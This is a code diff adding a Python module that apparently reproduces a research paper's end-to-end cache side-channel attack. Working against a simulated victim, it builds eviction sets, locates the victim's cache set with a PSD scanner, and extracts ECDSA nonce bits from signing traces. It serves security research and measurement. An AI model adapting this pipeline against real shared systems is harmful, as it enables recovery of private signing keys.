@@ -1,0 +1,247 @@
+"""The end-to-end attack: Steps 1-3 glued together (Section 7.3).
+
+Given a machine shared with a running ECDSA victim, the pipeline:
+
+1. builds eviction sets for every SF set at the target page offset
+   (Step 1: candidate filtering + binary-search pruning),
+2. identifies the victim's target set with the PSD scanner (Step 2),
+3. monitors the target set across several signings and extracts nonce
+   bits from each trace (Step 3),
+
+and reports the paper's metrics: per-phase times, fraction of nonce bits
+recovered per signing, and bit error rate.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import List, Optional, Sequence
+
+from .._util import mean, median
+from ..errors import ScanError
+from ..victim.ecdsa_victim import EcdsaVictim, SigningGroundTruth
+from .context import AttackerContext
+from .evset import EvsetConfig, bulk_construct_page_offset
+from .evset.types import EvictionSet
+from .extraction import (
+    ExtractedBit,
+    ExtractionConfig,
+    ExtractionScore,
+    HeuristicBoundaryClassifier,
+    bits_look_unbiased,
+    extract_bits,
+    score_extraction,
+)
+from .monitor import ParallelProbing, monitor_set
+from .scanner import Scanner, ScannerConfig, TargetSetClassifier
+from .traces import AccessTrace
+
+
+@dataclass(frozen=True)
+class AttackConfig:
+    """End-to-end attack parameters (PageOffset scenario by default)."""
+
+    algorithm: str = "bins"
+    evset: EvsetConfig = field(default_factory=lambda: EvsetConfig(budget_ms=100.0))
+    scanner: ScannerConfig = field(default_factory=ScannerConfig)
+    extraction: ExtractionConfig = field(default_factory=ExtractionConfig)
+    scan_timeout_s: float = 60.0
+    #: Number of signing traces to collect after finding the target set.
+    n_traces: int = 10
+    #: Segmentation: a gap this many iterations long splits trace segments.
+    segment_gap_iters: float = 4.0
+
+
+@dataclass
+class AttackReport:
+    """Everything the paper reports for the end-to-end attack."""
+
+    target_identified: bool
+    evset_build_cycles: int = 0
+    scan_cycles: int = 0
+    collect_cycles: int = 0
+    n_evsets: int = 0
+    sets_scanned: int = 0
+    scores: List[ExtractionScore] = field(default_factory=list)
+
+    @property
+    def total_cycles(self) -> int:
+        return self.evset_build_cycles + self.scan_cycles + self.collect_cycles
+
+    def total_seconds(self, clock_ghz: float) -> float:
+        return self.total_cycles / (clock_ghz * 1e9)
+
+    @property
+    def mean_recovered_fraction(self) -> float:
+        return mean([s.recovered_fraction for s in self.scores])
+
+    @property
+    def median_recovered_fraction(self) -> float:
+        return median([s.recovered_fraction for s in self.scores])
+
+    @property
+    def mean_bit_error_rate(self) -> float:
+        scored = [s for s in self.scores if s.n_recovered]
+        return mean([s.bit_error_rate for s in scored])
+
+
+def segment_trace(
+    trace: AccessTrace, iter_cycles: int, gap_iters: float = 4.0, min_accesses: int = 8
+) -> List[AccessTrace]:
+    """Split a long monitoring trace into activity bursts (signings).
+
+    The attacker has no ground truth at this point: segments are separated
+    by gaps much longer than a ladder iteration and must contain enough
+    accesses to plausibly be a signing.
+    """
+    times = sorted(trace.timestamps)
+    if not times:
+        return []
+    gap_limit = int(iter_cycles * gap_iters)
+    segments: List[List[int]] = [[times[0]]]
+    for t in times[1:]:
+        if t - segments[-1][-1] > gap_limit:
+            segments.append([t])
+        else:
+            segments[-1].append(t)
+    out = []
+    for seg in segments:
+        if len(seg) >= min_accesses:
+            out.append(
+                AccessTrace(
+                    timestamps=seg,
+                    start=seg[0] - iter_cycles,
+                    end=seg[-1] + iter_cycles,
+                    target_va=trace.target_va,
+                )
+            )
+    return out
+
+
+def make_extraction_validator(
+    boundary_classifier, cfg: AttackConfig
+):
+    """Scanner validator: a positive trace must yield plausible nonce bits.
+
+    This is the paper's WholeSys false-positive rejection: traces from
+    MAdd/MDouble sets have victim-like PSDs but do not decode into a
+    reasonable, unbiased bit stream.
+    """
+
+    def validate(trace: AccessTrace) -> bool:
+        boundaries = boundary_classifier.predict_boundaries(trace)
+        bits = extract_bits(trace, boundaries, cfg.extraction)
+        return bits_look_unbiased(bits)
+
+    return validate
+
+
+def collect_signing_traces(
+    ctx: AttackerContext,
+    victim: EcdsaVictim,
+    evset: EvictionSet,
+    cfg: AttackConfig,
+) -> List[AccessTrace]:
+    """Monitor the target set until ``n_traces`` signings are captured."""
+    machine = ctx.machine
+    iter_cycles = cfg.extraction.iter_cycles
+    signing_cycles = iter_cycles * (victim.curve.nonce_bits + 4)
+    session_cycles = int(signing_cycles / victim.cfg.duty_cycle)
+    segments: List[AccessTrace] = []
+    # Collect in session-sized windows until enough signings are seen.
+    min_accesses = victim.curve.nonce_bits // 3
+    for _ in range(cfg.n_traces * 6):
+        monitor = ParallelProbing(ctx, evset)
+        window = monitor_set(monitor, session_cycles)
+        segments.extend(
+            seg
+            for seg in segment_trace(window, iter_cycles, cfg.segment_gap_iters)
+            if seg.access_count() >= min_accesses
+        )
+        if len(segments) >= cfg.n_traces:
+            break
+    return segments[: cfg.n_traces]
+
+
+def score_against_truth(
+    traces: Sequence[AccessTrace],
+    truths: Sequence[SigningGroundTruth],
+    boundary_classifier,
+    cfg: AttackConfig,
+) -> List[ExtractionScore]:
+    """Extract bits and score them per ground-truth signing.
+
+    Monitoring dropouts fragment one signing into several trace segments,
+    so all extracted bits from every segment overlapping a signing are
+    pooled before matching against that signing's iterations
+    (validation-only use of the instrumentation).
+    """
+    per_truth: List[List[ExtractedBit]] = [[] for _ in truths]
+    covered = [False] * len(truths)
+    for trace in traces:
+        boundaries = boundary_classifier.predict_boundaries(trace)
+        bits = extract_bits(trace, boundaries, cfg.extraction)
+        for i, truth in enumerate(truths):
+            if truth.start < trace.end and trace.start < truth.end:
+                per_truth[i].extend(bits)
+                covered[i] = True
+    return [
+        score_extraction(truths[i], per_truth[i], cfg.extraction)
+        for i in range(len(truths))
+        if covered[i]
+    ]
+
+
+def run_end_to_end(
+    ctx: AttackerContext,
+    victim: EcdsaVictim,
+    classifier: TargetSetClassifier,
+    cfg: AttackConfig = AttackConfig(),
+    boundary_classifier=None,
+    evsets: Optional[List[EvictionSet]] = None,
+    use_validator: bool = False,
+) -> AttackReport:
+    """Run Steps 1-3 against a victim already running on the machine.
+
+    ``classifier`` must be pre-trained (Section 7.2 trains it offline on
+    traces from controlled victims).  ``evsets`` can inject pre-built
+    eviction sets to skip Step 1 (for experiments isolating later steps).
+    """
+    machine = ctx.machine
+    report = AttackReport(target_identified=False)
+    if boundary_classifier is None:
+        boundary_classifier = HeuristicBoundaryClassifier(cfg.extraction)
+
+    # Step 1: eviction sets for all SF sets at the target page offset.
+    t0 = machine.now
+    if evsets is None:
+        bulk = bulk_construct_page_offset(
+            ctx, cfg.algorithm, victim.layout.target_page_offset, cfg.evset
+        )
+        evsets = bulk.evsets
+    report.n_evsets = len(evsets)
+    report.evset_build_cycles = machine.now - t0
+    if not evsets:
+        return report
+
+    # Step 2: find the target set with the PSD scanner.
+    validator = (
+        make_extraction_validator(boundary_classifier, cfg) if use_validator else None
+    )
+    scanner = Scanner(ctx, classifier, cfg.scanner, validator=validator)
+    t0 = machine.now
+    result = scanner.scan(evsets, timeout_s=cfg.scan_timeout_s)
+    report.scan_cycles = machine.now - t0
+    report.sets_scanned = result.sets_scanned
+    if not result.found:
+        return report
+    report.target_identified = True
+
+    # Step 3: collect signing traces and extract the nonce bits.
+    t0 = machine.now
+    traces = collect_signing_traces(ctx, victim, result.evset, cfg)
+    report.collect_cycles = machine.now - t0
+    report.scores = score_against_truth(
+        traces, victim.truths, boundary_classifier, cfg
+    )
+    return report
